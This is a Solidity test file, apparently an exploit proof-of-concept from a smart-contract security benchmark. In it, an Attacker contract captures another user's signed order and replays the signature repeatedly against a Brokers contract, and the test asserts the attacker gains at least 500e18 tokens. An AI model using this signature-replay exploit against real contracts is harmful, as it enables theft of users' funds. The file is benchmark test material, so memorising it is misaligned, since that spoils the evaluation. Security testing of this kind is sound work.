// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    IBrokers.Order private o;
    bytes private signature;

    function see(IBrokers.Order calldata _o, bytes calldata _signature) external {
        o = _o;
        signature = _signature;
    }

    function run(Brokers _brokers) external {
        _brokers.register(1_000);
        for (uint256 i = 0; i < 8; i++) {
            try _brokers.place(o, signature) {} catch {
                return;
            }
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        vm.prank(JO);
        brokers.skip();
        IBrokers.Order memory o = order(1);
        (o.pool, o.maxPerDay) = (address(vale), 20e18);
        bytes memory signature = signed(JO_KEY, brokers.digest(o));
        vm.startPrank(FAY);
        brokers.register(500);
        brokers.place(o, signature);
        vm.stopPrank();
        other.see(o, signature);
    }

    function exploit() public {
        other.run(brokers);
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 500e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(brokers);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
